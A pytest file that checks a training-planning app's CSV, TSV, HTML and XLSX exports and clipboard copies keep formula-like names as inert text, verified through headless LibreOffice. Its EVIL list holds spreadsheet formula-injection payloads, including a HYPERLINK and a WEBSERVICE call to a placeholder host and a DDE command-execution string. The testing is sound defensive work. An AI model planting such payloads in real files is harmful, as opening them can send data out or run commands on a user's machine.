"""Names that look like formulas are text in every export, as a spreadsheet program opens it."""

import os
import re
import subprocess
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from tests.gui.conftest import Opener
from zerogui.accounting.cluster import Cluster, Device
from zerogui.accounting.model import Model
from zerogui.accounting.recipe import OptimizerTensor, Recipe
from zerogui.accounting.scenario import Scenario
from zerogui.files.tables import Table, to_csv, to_html, to_tsv
from zerogui.planning.comparison import Comparer, Stages, comparison_table
from zerogui.planning.pins import Pins
from zerogui.planning.resolve import resolve
from zerogui.planning.workbook import workbook

EVIL = (
    '=HYPERLINK("http://x.invalid/"&A1,"see")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.invalid")',
    "＝1+1",
)
CI = os.environ.get("HYPOTHESIS_PROFILE") == "ci"
# How LibreOffice opens each kind of file as a sheet.
FILTERS = {
    ".csv": "Text - txt - csv (StarCalc):44,34,76",
    ".tsv": "Text - txt - csv (StarCalc):9,34,76",
    ".html": "HTML (StarCalc)",
    ".xlsx": "Calc MS Excel 2007 XML",
}


def named(name: str) -> Scenario:
    """A plan that says ``name`` wherever it can say one."""
    recipe = Recipe(name, "bf16", "bf16", (OptimizerTensor(name, "fp32"),))
    return Scenario(name, Model(name, 10**6), recipe, Cluster(8), device=Device(name, 10**9))


def exports() -> dict[str, bytes]:
    """Files that show every evil name in their cells and headings, by file name."""
    pins = Pins()
    for name in EVIL:
        pins = pins.add(named(name), name)
    found = Comparer().compare(resolve(named(EVIL[0])), pins, Stages.ALL)
    tables = {
        "cells": Table((*EVIL, "count"), tuple((*EVIL, number) for number in (7, 10**17))),
        "compared": comparison_table(found, True),
        "compared-shown": comparison_table(found, False),
    }
    made = {}
    for stem, table in tables.items():
        made[f"{stem}.csv"] = to_csv(table).encode()
        made[f"{stem}.tsv"] = to_tsv(table).encode()
        made[f"{stem}.html"] = to_html(table).encode()
    for number, name in enumerate(EVIL if CI else EVIL[:1]):
        made[f"{number}.xlsx"] = workbook(resolve(named(name)))
    return made


def opened(files: dict[str, bytes], folder: Path) -> dict[str, str]:
    """What LibreOffice makes of the files: flat sheets as XML, by file name."""
    for suffix, how in FILTERS.items():
        names = [name for name in files if name.endswith(suffix)]
        out = folder / f"as{suffix}"
        for name in names:
            (folder / name).write_bytes(files[name])
        profile = (folder / "profile").as_uri()
        subprocess.run(
            [
                *("soffice", f"-env:UserInstallation={profile}", "--headless"),
                *(f"--infilter={how}", "--convert-to", "fods", "--outdir", str(out)),
                *(str(folder / name) for name in names),
            ],
            check=True,
            capture_output=True,
            timeout=300,
        )
    return {
        name: (folder / f"as{Path(name).suffix}" / f"{Path(name).stem}.fods").read_text("utf-8")
        for name in files
    }


def formulas(sheet: str) -> list[str]:
    return re.findall(r'table:formula="[^"]*"', sheet)


def test_no_name_becomes_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    files = exports()
    files["harmless.xlsx"] = workbook(resolve(named("name")))
    # Files in which a formula does run, so that the test would see one.
    files["control.csv"] = b"a,b\n=1+1,x\n"
    files["control.html"] = b"<table><tr><td>=1+1</td></tr></table>"
    sheets = opened(files, tmp_path)
    assert formulas(sheets.pop("control.csv"))
    assert formulas(sheets.pop("control.html"))
    own = sorted(formulas(sheets.pop("harmless.xlsx")))
    assert own
    for name, sheet in sheets.items():
        assert sorted(formulas(sheet)) == (own if name.endswith("xlsx") else []), name
        assert "<text:a" not in sheet, f"{name} has a link"
        assert "x.invalid" in sheet or name.endswith("xlsx"), name


@pytest.mark.parametrize("name", EVIL)
def test_what_is_copied_is_text_too(name: str, open_window: Opener, qtbot: QtBot) -> None:
    window = open_window(named(name))
    window.pin()
    window.work.views.show_view("compare")
    compare = window.work.views.view("compare")
    assert compare is not None
    compare.table.copy_all()
    mime = QApplication.clipboard().mimeData()
    for line in mime.text().splitlines():
        for cell in line.split("\t"):
            is_number = re.fullmatch(r"[-+±−]?[\d\s]+", cell)
            assert is_number or not cell.startswith(("=", "+", "-", "@", "＝")), cell
    marked = re.findall(r'<t[dh] style="([^"]*)">[=+@＝-][^<]*[A-Za-z(+]', mime.html())
    assert all("mso-number-format" in style for style in marked)
